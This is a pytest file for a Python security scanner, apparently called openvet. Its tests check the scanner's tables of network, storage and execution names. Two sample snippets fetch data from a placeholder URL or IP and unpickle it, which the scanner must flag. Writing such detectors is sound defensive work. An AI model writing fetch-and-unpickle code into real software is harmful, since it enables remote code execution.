"""The table of what sends, listens, stores and runs in Python: every list of it is asked for, and nowhere else is another."""

from __future__ import annotations

import ast
import re
import subprocess
import sys
from pathlib import Path

import pytest

import openvet
from openvet.core.limits import DEFAULT_LIMITS
from openvet.core.location import Location
from openvet.core.tables import read_table
from openvet.formats._python_ends import ends
from openvet.formats.python import read_source

ROOMS = Path(openvet.__file__).parent
TEXTS = {path: path.read_text() for path in sorted(ROOMS.rglob("*.py"))}
LISTS = [(kind, name) for kind, lists in read_table("python_reach").items() for name in lists]


@pytest.mark.parametrize(("kind", "name"), LISTS)
def test_every_list_is_asked_for(kind: str, name: str) -> None:
    found = getattr(getattr(ends(), kind), name)
    assert found == frozenset(read_table("python_reach")[kind][name])
    assert any(re.search(rf"\b{kind}\.{name}\b", text) for text in TEXTS.values())


@pytest.mark.parametrize(("kind", "name"), LISTS)
def test_no_list_says_the_same_twice(kind: str, name: str) -> None:
    listed = read_table("python_reach")[kind][name]
    assert len(set(listed)) == len(listed)


def test_no_room_has_a_table_of_its_own() -> None:
    """No set of names in a room that reads Python is mostly what the table holds as one list; packages are named for many reasons."""
    lists = [each for each in LISTS if each != ("clients", "names")]
    table = [found for kind, name in lists if len(found := getattr(getattr(ends(), kind), name)) > 4]
    held: list[str] = []
    for path, text in TEXTS.items():
        if not path.name.startswith("_python_"):
            continue
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.Set | ast.Tuple | ast.List) and len(node.elts) > 4:
                words = {each.value for each in node.elts if isinstance(each, ast.Constant)}
                held += [f"{path.name}:{node.lineno}" for found in table if len(words & found) > 0.7 * len(words)]
    assert held == []


def test_a_start_that_reads_no_python_reads_no_table() -> None:
    code = "import sys, openvet.cli.check, openvet.formats.python; print('openvet.formats._python_ends' in sys.modules)"
    shown = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert shown.stdout.strip() == "False"


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("import pickle, requests\npickle.Unpickler(requests.get('https://a.example').raw)", "unpickles what it fetches"),
        ("import _pickle, urllib.request as u\n_pickle.load(u.urlopen('http://203.0.113.7/a'))", "unpickles what it fetches"),
    ],
)  # fmt: skip
def test_what_one_room_knew_all_know(text: str, what: str) -> None:
    read = read_source(text, Location("m.py"), DEFAULT_LIMITS)
    assert [use.detail for use in read.uses if use.detail == what] == [what]
